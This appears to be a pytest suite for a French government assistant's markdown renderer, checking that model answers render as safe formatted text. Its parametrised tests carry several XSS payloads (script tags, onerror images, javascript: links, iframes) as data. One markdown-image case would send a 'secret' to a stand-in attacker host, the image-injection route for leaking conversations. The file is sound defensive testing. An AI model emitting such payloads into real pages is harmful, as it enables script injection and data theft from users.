"""Model answers are shown as formatted text, never as live HTML.

The answer is untrusted: it repeats what users paste and what attached
documents say. Whatever it contains, the page gets headings, lists, tables
and code, and nothing that runs, loads or leaks.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from collectivia.assistant.rendering import render_markdown, sanitise


class Elements(HTMLParser):
    """The elements and attributes a browser would build from the HTML."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_markdown_becomes_headings_emphasis_lists_and_code():
    html = render_markdown("## Horaires d'été\n\nLa mairie ouvre **à 8 h** et *ferme à 16 h*.\n\n"
                           "- lundi\n- mardi\n\n1. accueil\n2. état civil\n\n"
                           "```\nprint('bonjour')\n```")
    assert "<strong>à 8 h</strong>" in html and "<em>ferme à 16 h</em>" in html
    assert "<ul>\n<li>lundi</li>" in html and "<ol>\n<li>accueil</li>" in html
    assert "<pre><code>print('bonjour')" in html
    assert "##" not in html and "**" not in html


def test_the_answers_headings_start_below_the_pages_own():
    html = render_markdown("# Titre\n\n## Partie\n\n###### Détail")
    assert "<h3>Titre</h3>" in html and "<h4>Partie</h4>" in html and "<h6>Détail</h6>" in html
    assert "<h1" not in html and "<h2" not in html


def test_a_table_has_column_headers_and_scrolls_in_its_own_keyboard_reachable_frame():
    html = render_markdown("| Grade | Indice |\n|---|---:|\n| Adjoint | 367 |")
    assert '<div class="table-scroll" role="region" tabindex="0" aria-label="Tableau">' in html
    assert '<th scope="col">Grade</th>' in html
    assert '<td class="num">367</td>' in html          # right-aligned by class, not inline style
    assert "style=" not in html


@pytest.mark.parametrize("attack", [
    "<script>alert('pirate')</script>",
    "<img src=x onerror=\"alert('pirate')\">",
    "<a href=\"javascript:alert('pirate')\">clic</a>",
    "[clic](javascript:alert('pirate'))",
    "<iframe src=\"https://exemple.invalid\"></iframe>",
    "<div onmouseover=\"alert('pirate')\">survol</div>",
    "<style>body{display:none}</style>",
])
def test_html_written_by_the_model_is_shown_as_text_never_run(attack):
    html = render_markdown(f"Voici la réponse.\n\n{attack}\n\nFin.")
    elements = Elements(html).found
    assert not [tag for tag, _ in elements if tag in {"script", "img", "iframe", "style"}]
    assert not [name for _, attrs in elements for name in attrs if name.startswith("on")]
    assert not [a for tag, a in elements if tag == "a" and "javascript" in a.get("href", "")]
    assert "Fin." in html


def test_the_sanitiser_alone_would_still_stop_live_html():
    """Second lock: were the parser ever to let raw HTML through, nh3 removes what runs."""
    html = sanitise('<p onclick="x()">a</p><script>alert(1)</script><img src=x onerror=y()>'
                    '<a href="javascript:alert(1)">b</a><div class="table-scroll" style="x">c</div>'
                    '<h1>d</h1><form action="/x"><input name="csrf_token"></form>')
    assert html == '<p>a</p><a rel="noopener noreferrer nofollow">b</a>' \
                   '<div class="table-scroll">c</div>d'


def test_a_markdown_image_is_neither_loaded_nor_linked():
    """An injected image URL would carry the conversation to an outside server."""
    html = render_markdown("![le mot de passe est secret](https://pirate.invalid/?q=secret)")
    assert "pirate.invalid" not in html
    assert "[image non affichée : le mot de passe est secret]" in html


def test_links_keep_their_address_and_do_not_hand_over_the_page():
    html = render_markdown("Voir [service-public.fr](https://www.service-public.fr/) ou "
                           "<mailto:rh@admiville.fr>")
    assert 'href="https://www.service-public.fr/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:rh@admiville.fr"' in html


def test_a_code_block_keeps_only_a_harmless_language_class():
    html = render_markdown('```python" onclick="alert(1)\nx = 1\n```')
    assert [attrs for tag, attrs in Elements(html).found if tag == "code"] == [{}]


def test_single_line_breaks_are_kept_as_models_write_them():
    assert "Madame,<br>\nVeuillez" in render_markdown("Madame,\nVeuillez agréer")


def test_an_empty_answer_renders_as_nothing():
    assert render_markdown("") == ""
